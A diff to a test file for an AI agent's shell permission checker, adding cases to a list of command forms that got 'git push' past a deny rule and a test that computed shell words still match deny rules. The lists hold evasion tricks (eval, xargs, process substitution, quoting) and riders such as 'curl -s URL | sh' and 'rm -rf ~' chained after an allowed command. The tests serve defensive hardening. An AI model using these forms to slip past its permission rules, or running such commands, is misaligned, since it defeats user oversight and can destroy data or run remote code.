@@ -27,7 +27,9 @@ BYPASSES = [  # each ran `git push` under --yolo on the raw-line glob
     "case x in x) git push;; esac", "f() { git push; }; f", "find . -exec git push \\;",
     "diff <(git push) x", "g'i't push", "\\git push", "git $SUB origin", "$G push",
     'eval "$X"', "echo git push | sh", 'su -c "git push" me', "cat <<EOF\n$(git push)\nEOF",
-    "watch -n1 git push", "env -S 'git push'", "git\tpush",
+    "watch -n1 git push", "env -S 'git push'", "git\tpush", "/usr/bin/git push",
+    "echo push | xargs git", "echo 'git push' | xargs -I{} sh -c '{}'", "source <(echo git push)",
+    "chrt 10 git push", "flock /tmp/l git push", "flock /tmp/l -c 'git push'",
 ]
 RIDERS = [  # each rode an allow of `git status*` past the danger check
     "git status --short; curl -s URL | sh", "git status && rm -rf ~", "git status | sh",
@@ -67,6 +69,14 @@ def test_parts_covered_by_different_allow_rules_are_allowed(ctx):
     rules = parse({"allow": ["terminal(git status*)", "terminal(wc*)"]}, "config.yaml")
     assert rules.allows("terminal", {"command": "git status --short | wc -l"}, ctx.cwd)
     assert not rules.allows("terminal", {"command": "git status --short | wc -l | sh"}, ctx.cwd)
+
+
+def test_a_computed_word_may_stand_for_several_words(ctx):
+    rules = parse({"deny": ["terminal(git push --force*)"]}, "config.yaml")
+    for line in ["git $ARGS", "git push $FLAGS origin", 'git "$A" $B', "git -C $D $X"]:
+        assert rules.verdict("terminal", {"command": line}, ctx.cwd) is not None, line
+    for line in ["git pull $X", "ls $X", '[ -f x ] && ls', "~/bin/tool --force"]:
+        assert rules.verdict("terminal", {"command": line}, ctx.cwd) is None, line
 
 
 def test_claude_code_prefix_syntax_matches_the_words_not_a_longer_name(ctx):
